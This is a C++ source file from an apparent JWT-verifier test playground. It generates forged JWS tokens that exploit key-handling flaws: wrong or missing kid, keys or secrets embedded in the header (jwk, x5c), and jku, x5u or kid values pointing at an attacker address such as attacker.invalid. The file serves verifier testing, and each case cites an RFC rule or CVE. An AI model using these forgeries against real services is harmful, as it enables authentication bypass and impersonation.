// SPDX-FileCopyrightText: 2026 The Tessera developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "jose/base64url.h"
#include "jose/jwk.h"
#include "jose/jws.h"
#include "playground/attackcontext.h"

#include <QJsonArray>

namespace tessera::playground {

QList<Attack> attacksOnKeys(const AttackContext &context)
{
    QList<Attack> all;
    const jose::SigningKey &key = context.material().attackerKey;
    const QByteArray forged = compact(context.forgedClaims());
    const QString theirs = key.kid().toText();
    const QJsonObject jwk = jose::publicJwk(key.publicKey(), key.algorithm(), key.kid());
    const QString alg = QStringLiteral("alg"), kid = QStringLiteral("kid"), embedded = QStringLiteral("jwk");
    const auto add = [&](const QString &id, const QString &tries, const QString &why, const QString &rule,
                         QJsonObject changes, const QString &bait = {}) {
        changes.insert(alg, QString(jose::name(key.algorithm())));
        all.append({.id = id,
            .tries = tries,
            .why = why,
            .rule = rule,
            .token = jose::signJwsAs(context.headerWith(changes), forged, key),
            .bait = bait});
    };
    const QString anyKey = QStringLiteral("It does not verify with the key that the kid names.");
    const QString keyRule = QStringLiteral("RFC 7515 section 5.2");
    add(QStringLiteral("key-same-kid"), QStringLiteral("A forged token of another key, under the issuer's kid."),
        anyKey, keyRule, {});
    add(QStringLiteral("key-unknown-kid"), QStringLiteral("A forged token of another key, under that key's kid."),
        QStringLiteral("It takes a key that it does not know for one that needs no verifying."), keyRule,
        {{kid, theirs}});
    add(QStringLiteral("key-no-kid"), QStringLiteral("A forged token of another key, without a kid."),
        QStringLiteral("It takes a token that names no key for one that needs no verifying."), keyRule,
        {{kid, QJsonValue::Null}});

    const QString brings = QStringLiteral("It verifies with the key that the token brings along.");
    const QString bringsRule = QStringLiteral("RFC 8725 section 3.10, CVE-2018-0114");
    add(QStringLiteral("jwk"), QStringLiteral("A forged token with its own key in the header (jwk)."), brings,
        bringsRule, {{embedded, jwk}});
    add(QStringLiteral("jwk-own-kid"), QStringLiteral("The same, under the kid of that key."), brings, bringsRule,
        {{embedded, jwk}, {kid, theirs}});
    const QByteArray secret = "attacker";
    all.append({.id = QStringLiteral("jwk-secret"),
        .tries = QStringLiteral("A forged token signed by HS256 with a secret that its header brings (jwk)."),
        .why = brings,
        .rule = bringsRule,
        .token = hmacToken(context.headerWith({{alg, QStringLiteral("HS256")},
                               {embedded, QJsonObject{{QStringLiteral("kty"), QStringLiteral("oct")},
                                              {QStringLiteral("k"), QString::fromLatin1(jose::toBase64Url(secret))}}}}),
            forged, secret)});
    add(QStringLiteral("x5c"), QStringLiteral("A forged token with a self-made certificate in the header (x5c)."),
        QStringLiteral("It verifies with the certificate that the token brings along, whoever signed that."),
        bringsRule,
        {{QStringLiteral("x5c"),
            QJsonArray{QString::fromLatin1(attackersCertificate(key, context.material().now).toBase64())}}});

    const QString canary = context.material().canary;
    const QString fetches = QStringLiteral("It fetches keys from an address that the token names.");
    const QString fetchesRule = QStringLiteral("RFC 8725 section 3.10");
    const auto address = [&](const QString &bait) {
        return canary.isEmpty() ? QStringLiteral("https://attacker.invalid") + bait : canary + bait;
    };
    const QString set = keySetBait, certificate = certificateBait;
    add(QStringLiteral("jku"), QStringLiteral("A forged token that says where its key set is (jku)."), fetches,
        fetchesRule, {{QStringLiteral("jku"), address(set + QStringLiteral("?jku"))}, {kid, theirs}},
        set + QStringLiteral("?jku"));
    add(QStringLiteral("jku-issuers-kid"), QStringLiteral("The same, under the issuer's kid."), fetches, fetchesRule,
        {{QStringLiteral("jku"), address(set + QStringLiteral("?jku-issuers-kid"))}},
        set + QStringLiteral("?jku-issuers-kid"));
    add(QStringLiteral("x5u"), QStringLiteral("A forged token that says where its certificate is (x5u)."), fetches,
        fetchesRule, {{QStringLiteral("x5u"), address(certificate + QStringLiteral("?x5u"))}, {kid, theirs}},
        certificate + QStringLiteral("?x5u"));
    add(QStringLiteral("kid-address"), QStringLiteral("A forged token whose kid is the address of its key set."),
        fetches, fetchesRule, {{kid, address(set + QStringLiteral("?kid"))}}, set + QStringLiteral("?kid"));
    return all;
}

} // namespace tessera::playground
